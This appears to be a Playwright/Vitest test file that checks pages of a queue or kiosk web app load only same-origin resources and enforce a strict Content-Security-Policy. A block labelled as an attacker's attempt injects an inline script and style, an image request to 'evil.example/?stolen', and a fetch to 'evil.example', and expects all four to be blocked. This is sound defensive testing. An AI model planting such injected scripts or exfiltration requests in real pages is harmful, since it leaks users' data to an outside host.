import { fileURLToPath } from 'node:url';
import type { Browser } from '@playwright/test';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { startTestSite, type TestSite } from '@motcua/testing';
import { BROWSER, openBrowser } from './browser.ts';

const PAGES = ['kiosk', 'counter', 'display', 'admin', 'home', 'docs'] as const;

describe.skipIf(BROWSER === null)('a page', () => {
  let site: TestSite;
  let browser: Browser;

  beforeAll(async () => {
    site = await startTestSite({
      kioskPageDir: fileURLToPath(new URL('../../apps/kiosk/dist', import.meta.url)),
    });
    browser = await openBrowser();
  });
  afterAll(async () => {
    await browser.close();
    await site.close();
  });

  const addressOf = (page: (typeof PAGES)[number]) =>
    ({
      kiosk: site.kioskUrl,
      counter: `${site.hubUrl}/counter/`,
      display: `${site.hubUrl}/display/`,
      admin: `${site.hubUrl}/admin/`,
      home: `${site.hubUrl}/`,
      docs: `${site.hubUrl}/api/docs`,
    })[page];

  it.each(PAGES)('requests only its own server and runs only its own scripts: %s', async (name) => {
    const { origin, host } = new URL(addressOf(name));
    const context = await browser.newContext({ serviceWorkers: 'block' });
    const cookie = { name: 'motcua_session', url: origin };
    if (name === 'counter') await context.addCookies([{ ...cookie, value: site.sessionOf('lan') }]);
    if (name === 'admin') await context.addCookies([{ ...cookie, value: site.sessionOf('dung') }]);
    const page = await context.newPage();
    const elsewhere: string[] = [];
    page.on('request', (request) => {
      const url = new URL(request.url());
      if (url.host !== host && !['data:', 'blob:'].includes(url.protocol))
        elsewhere.push(request.url());
    });
    page.on('websocket', (socket) => {
      if (new URL(socket.url()).host !== host) elsewhere.push(socket.url());
    });
    const answer = await page.goto(addressOf(name));
    const policy = answer?.headers()['content-security-policy'] ?? '';
    expect(policy).toMatch(/script-src 'self'/);
    expect(policy).not.toMatch(/unsafe-|\*|https?:/);
    await page.locator('main, table').first().waitFor();
    expect(elsewhere).toEqual([]);

    // What an attacker who could inject HTML into a page would try.
    const done = await page.evaluate(async () => {
      const blocked = new Set<string>();
      let settle = () => {};
      const all = new Promise<void>((done) => (settle = done));
      document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) => {
        blocked.add(effectiveDirective);
        if (blocked.size === 4) settle();
      });
      const script = document.createElement('script');
      script.textContent = 'window.ran = true';
      const style = document.createElement('style');
      style.textContent = 'body { background: red }';
      document.body.append(script, style);
      const image = document.createElement('img');
      image.src = 'https://evil.example/?stolen';
      document.body.append(image);
      const fetched = await fetch('https://evil.example/').then(
        () => true,
        () => false,
      );
      await all;
      return { ran: 'ran' in window, fetched, blocked: [...blocked] };
    });
    expect(done.ran).toBe(false);
    expect(done.fetched).toBe(false);
    expect(done.blocked.toSorted()).toEqual([
      'connect-src',
      'img-src',
      'script-src-elem',
      'style-src-elem',
    ]);
    await context.close();
  });
});
